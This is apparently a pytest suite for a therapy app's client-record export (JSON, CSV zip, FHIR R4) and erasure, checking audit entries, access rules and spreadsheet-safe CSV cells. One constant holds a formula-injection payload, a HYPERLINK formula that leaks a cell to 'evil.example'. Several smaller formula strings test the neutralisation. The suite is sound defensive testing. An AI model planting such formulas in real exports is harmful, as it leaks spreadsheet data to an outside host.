"""Export and erasure through the API, as a therapist would use them, on both databases: the
record comes out as JSON, CSV and a FHIR R4 Bundle, and an erased client leaves nothing behind
but an audit entry with counts."""

import csv
import io
import uuid
import zipfile
from contextlib import contextmanager
from datetime import timedelta

import pytest
from fhir.resources.R4B import get_fhir_model_class
from fhir.resources.R4B.bundle import Bundle
from sqlalchemy import func
from sqlmodel import SQLModel, select

from care.db import session_scope
from care.tables import (
    ApiToken,
    AuditEvent,
    CheckIn,
    Client,
    DeliveryLog,
    Prompt,
    SignInFailure,
    User,
)
from care.types import utcnow
from tests.conftest import make_person

BASE_URL = "http://hearth.test"  # HEARTH_BASE_URL of the test settings
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _problem(response, status):
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"
    return response.json


@contextmanager
def _session(app):
    from service import db

    with app.app_context(), session_scope(db.engine()) as session:
        yield session


def _assign(client, therapist, patient, **fields):
    body = {"practice_id": "self-compassion-break", **fields}
    response = client.post(
        f"/api/v1/clients/{patient.client_id}/assignments", headers=therapist.headers, json=body
    )
    assert response.status_code == 201, response.json
    return response.json


def _practise(client, patient, assignment_id, pre, post):
    started = client.post(
        "/api/v1/me/sessions",
        headers=patient.headers,
        json={"assignment_id": assignment_id, "pre_distress": pre},
    )
    assert started.status_code == 201, started.json
    finished = client.post(
        f"/api/v1/me/sessions/{started.json['id']}/finish",
        headers=patient.headers,
        json={"post_distress": post},
    )
    assert finished.status_code == 200, finished.json
    return started.json["id"]


def _check_in(client, patient, distress, note=""):
    response = client.post(
        "/api/v1/me/checkins", headers=patient.headers, json={"distress": distress, "note": note}
    )
    assert response.status_code == 201, response.json


def _export(client, therapist, patient, fmt):
    return client.get(
        f"/api/v1/clients/{patient.client_id}/export",
        headers=therapist.headers,
        query_string={"format": fmt},
    )


def _erase(client, person, patient, confirm):
    return client.delete(
        f"/api/v1/clients/{patient.client_id}", headers=person.headers, json={"confirm": confirm}
    )


def _practised(client, therapist, patient):
    """Two sessions (one still open) and two check-ins: five distress ratings in all."""
    assignment = _assign(client, therapist, patient, note="After dinner")
    _practise(client, patient, assignment["id"], 4, 3)
    open_session = client.post(
        "/api/v1/me/sessions",
        headers=patient.headers,
        json={"assignment_id": assignment["id"], "pre_distress": 5},
    )
    assert open_session.status_code == 201
    _check_in(client, patient, 2, note="@SUM(1+1) calmer today")
    _check_in(client, patient, 6)
    return assignment


def _attachment(response, mimetype, extension):
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == mimetype
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and disposition.endswith(f'.{extension}"')
    assert response.headers["Cache-Control"] == "no-store"


def _audit(app, action, client_id):
    with _session(app) as session:
        return list(
            session.exec(
                select(AuditEvent).where(
                    AuditEvent.action == action, AuditEvent.target_id == str(client_id)
                )
            )
        )


def test_json_export_holds_the_whole_record(app, client, therapist, patient):
    assignment = _practised(client, therapist, patient)
    response = _export(client, therapist, patient, "json")
    _attachment(response, "application/json", "json")
    record = response.json
    assert record["format"] == "hearth.client-record" and record["version"] == 1
    assert record["client"]["id"] == patient.client_id
    assert record["client"]["email"] == patient.email and "user_id" not in record["client"]
    assert [c["distress"] for c in record["checkins"]] == [2, 6]
    sessions = record["practice_sessions"]
    assert [(s["pre_distress"], s["post_distress"]) for s in sessions] == [(4, 3), (5, None)]
    assert [a["id"] for a in record["assignments"]] == [assignment["id"]]
    assert record["assignments"][0]["note"] == "After dinner"
    assert isinstance(record["assignments"][0]["schedule"], dict)
    assert record["dose_decisions"] and all(
        isinstance(d["reasons"], list) for d in record["dose_decisions"]
    )
    assert record["dose_actions"][0]["kind"] == "settings"
    assert record["prompts"] == {"total": 0, "by_status": {}}
    assert record["exported_at"].endswith("+00:00")
    [entry] = _audit(app, "client.export", patient.client_id)
    assert entry.detail == "format=json" and str(entry.actor_id) == therapist.id


def test_csv_export_is_a_zip_of_spreadsheet_safe_csv_files(client, therapist, patient):
    renamed = client.patch(
        f"/api/v1/clients/{patient.client_id}",
        headers=therapist.headers,
        json={"display_name": EVIL_NAME},
    )
    assert renamed.status_code == 200
    _practised(client, therapist, patient)
    response = _export(client, therapist, patient, "csv")
    _attachment(response, "application/zip", "zip")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert archive.testzip() is None

    def table(name):
        with archive.open(name) as raw:
            text = io.TextIOWrapper(raw, encoding="utf-8-sig", newline="")
            return list(csv.DictReader(text))

    expected = {
        "client.csv",
        "assignments.csv",
        "practice_sessions.csv",
        "checkins.csv",
        "dose_actions.csv",
        "dose_decisions.csv",
        "alerts.csv",
        "prompts.csv",
    }
    assert set(archive.namelist()) == expected
    [person] = table("client.csv")
    # A spreadsheet shows the name as text instead of running it as a formula.
    assert person["display_name"] == "'" + EVIL_NAME
    assert person["id"] == patient.client_id and person["email"] == patient.email
    checkins = table("checkins.csv")
    assert [row["distress"] for row in checkins] == ["2", "6"]
    assert checkins[0]["note"] == "'@SUM(1+1) calmer today"
    assert checkins[0]["safety_concern"] == "false"
    sessions = table("practice_sessions.csv")
    assert [(s["pre_distress"], s["post_distress"]) for s in sessions] == [("4", "3"), ("5", "")]
    assert len(table("assignments.csv")) == 1
    assert table("dose_decisions.csv")[0]["reasons"].startswith("[")
    # Empty tables still say what their columns are.
    with archive.open("prompts.csv") as raw:
        assert raw.read().decode("utf-8-sig").splitlines() == ["status,count"]


# fhir.resources checks structure and types but not the codes of required bindings; these are
# the R4 value sets of the codes the export uses.
R4_CODES = {
    ("Observation", "status"): {"registered", "preliminary", "final", "amended", "corrected",
                                "cancelled", "entered-in-error", "unknown"},
    ("CarePlan", "status"): {"draft", "active", "on-hold", "revoked", "completed",
                             "entered-in-error", "unknown"},
    ("CarePlan", "intent"): {"proposal", "plan", "order", "option"},
    ("CarePlan", "detail.status"): {"not-started", "scheduled", "in-progress", "on-hold",
                                    "completed", "cancelled", "stopped", "unknown",
                                    "entered-in-error"},
    ("CarePlan", "detail.kind"): {"Appointment", "CommunicationRequest", "DeviceRequest",
                                  "MedicationRequest", "NutritionOrder", "Task",
                                  "ServiceRequest", "VisionPrescription"},
    ("Task", "status"): {"draft", "requested", "received", "accepted", "rejected", "ready",
                         "cancelled", "in-progress", "on-hold", "failed", "completed",
                         "entered-in-error"},
    ("Task", "intent"): {"unknown", "proposal", "plan", "order", "original-order",
                         "reflex-order", "filler-order", "instance-order", "option"},
}  # fmt: skip


def _check_codes(resource: dict) -> None:
    kind = resource["resourceType"]
    for (of, path), allowed in R4_CODES.items():
        if of != kind:
            continue
        if path.startswith("detail."):
            values = [a["detail"][path[7:]] for a in resource["activity"]]
        else:
            values = [resource[path]]
        assert set(values) <= allowed, (kind, path, values)


def _by_type(bundle: dict) -> dict[str, list[dict]]:
    found: dict[str, list[dict]] = {}
    for entry in bundle["entry"]:
        found.setdefault(entry["resource"]["resourceType"], []).append(entry)
    return found


def test_fhir_export_is_a_valid_r4_bundle_with_one_observation_per_rating(
    app, client, therapist, patient
):
    kept = _practised(client, therapist, patient)
    paused = _assign(client, therapist, patient, practice_id="soothing-touch")
    ended = _assign(client, therapist, patient, practice_id="watching-kindness")
    patch = client.patch(
        f"/api/v1/assignments/{paused['id']}", headers=therapist.headers, json={"active": False}
    )
    assert patch.status_code == 200
    assert (
        client.delete(f"/api/v1/assignments/{ended['id']}", headers=therapist.headers).status_code
        == 204
    )
    response = _export(client, therapist, patient, "fhir")
    _attachment(response, "application/fhir+json", "fhir.json")
    document = response.json

    # The fhir.resources models validate the Bundle and, one by one, each resource in it.
    Bundle.model_validate(document)
    for entry in document["entry"]:
        resource = entry["resource"]
        get_fhir_model_class(resource["resourceType"]).model_validate(resource)
        _check_codes(resource)
    assert document["type"] == "collection" and document["timestamp"].endswith("+00:00")

    urls = [entry["fullUrl"] for entry in document["entry"]]
    assert len(set(urls)) == len(urls)
    for entry in document["entry"]:
        assert entry["fullUrl"] == "urn:uuid:" + str(uuid.UUID(entry["resource"]["id"]))
    found = _by_type(document)
    [patient_entry] = found["Patient"]
    resource = patient_entry["resource"]
    assert resource["name"] == [{"text": "sam"}]
    assert resource["identifier"] == [{"system": f"{BASE_URL}/clients", "value": patient.client_id}]
    assert resource["telecom"] == [{"system": "email", "value": patient.email}]
    subject = {"reference": patient_entry["fullUrl"]}

    observations = [entry["resource"] for entry in found["Observation"]]
    # 2 check-ins, 2 ratings before practice, 1 after (the second session is still open).
    assert sorted(o["valueInteger"] for o in observations) == [2, 3, 4, 5, 6]
    for obs in observations:
        assert obs["status"] == "final" and obs["subject"] == subject
        assert obs["code"] == {"text": "Distress rating (0-10)"}
        assert obs["category"][0]["coding"][0]["code"] == "survey"
        assert obs["effectiveDateTime"].endswith("+00:00")

    plans = {e["resource"]["identifier"][0]["value"]: e for e in found["CarePlan"]}
    tasks = {e["resource"]["identifier"][0]["value"]: e for e in found["Task"]}
    assert set(plans) == set(tasks) == {kept["id"], paused["id"], ended["id"]}
    states = {key: plan["resource"]["status"] for key, plan in plans.items()}
    assert states == {kept["id"]: "active", paused["id"]: "on-hold", ended["id"]: "revoked"}
    for key, plan in plans.items():
        task = tasks[key]["resource"]
        assert plan["resource"]["intent"] == "plan" and plan["resource"]["subject"] == subject
        assert task["intent"] == "plan" and task["for"] == subject
        assert task["basedOn"] == [{"reference": plan["fullUrl"]}]
        assert plan["resource"]["activity"][0]["detail"]["code"] == task["code"]
    practice = plans[kept["id"]]["resource"]["activity"][0]["detail"]["code"]
    assert practice["coding"][0]["code"] == "self-compassion-break"
    assert practice["text"] == "A kind pause for a hard moment"
    assert "A kind pause for a hard moment" in tasks[kept["id"]]["resource"]["description"]
    [entry] = _audit(app, "client.export", patient.client_id)
    assert entry.detail == "format=fhir"


def test_fhir_patient_without_a_login_has_no_email(client, therapist):
    made = client.post(
        "/api/v1/clients", headers=therapist.headers, json={"display_name": "Kim"}
    ).json
    response = client.get(
        f"/api/v1/clients/{made['id']}/export?format=fhir", headers=therapist.headers
    )
    Bundle.model_validate(response.json)
    [patient] = [e["resource"] for e in response.json["entry"]]
    assert patient["resourceType"] == "Patient" and "telecom" not in patient


def test_export_and_erasure_are_for_the_clients_own_therapist(
    app, client, therapist, other_therapist, patient, admin
):
    _practised(client, therapist, patient)
    for fmt in ("json", "csv", "fhir"):
        _problem(_export(client, other_therapist, patient, fmt), 404)
    _problem(_erase(client, other_therapist, patient, "sam"), 404)
    for person in (patient, admin):
        _problem(_export(client, person, patient, "json"), 403)
        _problem(_erase(client, person, patient, "sam"), 403)
    _problem(_export(client, therapist, patient, "xml"), 422)
    assert _audit(app, "client.export", patient.client_id) == []
    with _session(app) as session:
        assert session.get(Client, uuid.UUID(patient.client_id)) is not None


def test_erasure_needs_the_display_name_typed_out(app, client, therapist, patient):
    url = f"/api/v1/clients/{patient.client_id}"
    _problem(client.delete(url, headers=therapist.headers), 415)
    body = _problem(client.delete(url, headers=therapist.headers, json={}), 422)
    assert body["errors"][0]["field"] == "confirm"
    body = _problem(_erase(client, therapist, patient, "someone else"), 422)
    assert body["errors"][0]["field"] == "confirm" and '"confirm"' in body["detail"]
    assert "nothing was erased" in body["detail"]
    with _session(app) as session:
        assert session.get(Client, uuid.UUID(patient.client_id)) is not None


def _add_prompt(session, client_id, assignment_id, status):
    now = utcnow()
    prompt = Prompt(
        client_id=uuid.UUID(client_id),
        assignment_id=uuid.UUID(assignment_id),
        slot=f"2030-01-01T09:00 {status}",
        scheduled_at=now,
        expires_at=now + timedelta(hours=6),
        practice_id="self-compassion-break",
        level=1,
        status=status,
        idempotency_key=uuid.uuid4().hex,
    )
    session.add(prompt)
    session.flush()
    return prompt


def _rows_of(session, client_id: uuid.UUID) -> dict[str, int]:
    """Rows that carry this client's id, in every table that has a client_id column."""
    counts = {}
    for table in SQLModel.metadata.sorted_tables:
        if "client_id" in table.c and table.name != "audit_events":
            statement = select(func.count()).where(table.c.client_id == client_id)
            counts[table.name] = session.exec(statement).one()
    return counts


def test_erasure_removes_every_row_of_the_client_and_keeps_an_audit_entry(
    app, client, therapist, patient
):
    other = make_person(app, "client", "robin@example.org", therapist=therapist)
    assignment = _practised(client, therapist, patient)
    _check_in(client, patient, 9)  # a crisis: hold, urgent alert, dose decisions
    other_assignment = _assign(client, therapist, other)
    _practise(client, other, other_assignment["id"], 3, 2)
    feed = client.post("/api/v1/me/calendar", headers=patient.headers)
    assert feed.status_code == 201
    feed_path = feed.json["url"].removeprefix(BASE_URL)
    assert client.get(feed_path).status_code == 200
    refused = client.post(
        "/api/v1/auth/token", json={"email": patient.email, "password": "not-the-password"}
    )
    assert refused.status_code == 401
    cid = uuid.UUID(patient.client_id)
    with _session(app) as session:
        assert session.exec(select(SignInFailure).where(_failures_of(patient))).all()
        sent = _add_prompt(session, patient.client_id, assignment["id"], "sent")
        session.add(DeliveryLog(prompt_id=sent.id, channel="inbox", outcome="ok"))
        _add_prompt(session, patient.client_id, assignment["id"], "planned")
        # An entry written by an older caller that put the name in the detail.
        session.add(
            AuditEvent(action="client.update", actor_id=uuid.UUID(therapist.id), client_id=cid,
                       target_type="client", target_id=str(cid), detail="display_name: sam")
        )  # fmt: skip
        before = _rows_of(session, cid)
        sent_id = sent.id
    for table in ("assignments", "practice_sessions", "checkins", "dose_decisions", "alerts"):
        assert before[table] > 0, table
    assert before["prompts"] == 2 and before["calendar_feeds"] == 1
    kept_other = _rows_of_client(app, other.client_id)

    response = _erase(client, therapist, patient, "  SAM ")
    assert response.status_code == 204, response.get_data(as_text=True)

    with _session(app) as session:
        assert set(_rows_of(session, cid).values()) == {0}
        assert session.get(Client, cid) is None
        assert session.get(User, uuid.UUID(patient.id)) is None
        tokens = select(ApiToken).where(ApiToken.user_id == uuid.UUID(patient.id))
        assert session.exec(tokens).all() == []
        logs = select(DeliveryLog).where(DeliveryLog.prompt_id == sent_id)
        assert session.exec(logs).all() == []
        assert session.exec(select(SignInFailure).where(_failures_of(patient))).all() == []
        events = list(session.exec(select(AuditEvent)))
    assert _rows_of_client(app, other.client_id) == kept_other  # the other client is untouched
    [erased] = [e for e in events if e.action == "client.erase"]
    assert erased.target_id == str(cid) and erased.client_id == cid
    assert str(erased.actor_id) == therapist.id
    assert "checkins=3" in erased.detail and "clients=1" in erased.detail
    assert "users=1" in erased.detail and "audit_details_scrubbed=1" in erased.detail
    for event in events:  # no name or email anywhere in the log
        assert "sam" not in event.detail.casefold(), event
    assert any(e.detail == "[erased]" and e.client_id == cid for e in events)
    assert sum(1 for e in events if e.client_id == cid) > 2  # the older entries stay

    _problem(client.get("/api/v1/me/assignments", headers=patient.headers), 401)
    _problem(client.get(f"/api/v1/clients/{cid}", headers=therapist.headers), 404)
    _problem(_export(client, therapist, patient, "json"), 404)
    assert client.get(feed_path).status_code == 404


def _failures_of(person):
    from care.accounts.throttle import account_key

    return (SignInFailure.kind == "account") & (SignInFailure.key == account_key(person.email))


def _rows_of_client(app, client_id: str) -> dict[str, int]:
    with _session(app) as session:
        return _rows_of(session, uuid.UUID(client_id))


def test_erasure_is_refused_while_a_prompt_is_being_sent(app, client, therapist, patient):
    assignment = _practised(client, therapist, patient)
    with _session(app) as session:
        _add_prompt(session, patient.client_id, assignment["id"], "sending")
    before = _rows_of_client(app, patient.client_id)
    body = _problem(_erase(client, therapist, patient, "sam"), 409)
    assert "being sent" in body["detail"] and "nothing was erased" in body["detail"]
    assert _rows_of_client(app, patient.client_id) == before
    with _session(app) as session:
        assert session.get(User, uuid.UUID(patient.id)) is not None
        assert len(session.exec(select(CheckIn)).all()) == 2
    assert _audit(app, "client.erase", patient.client_id) == []
    assert client.get("/api/v1/me/assignments", headers=patient.headers).status_code == 200


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("plain", "plain"),
        (None, ""),
        (True, "true"),
        (3, "3"),
        ({"a": "é"}, '{"a":"é"}'),
    ],
)
def test_csv_cells_are_neutralised(value, cell):
    from care.export.record import safe_cell

    assert safe_cell(value) == cell
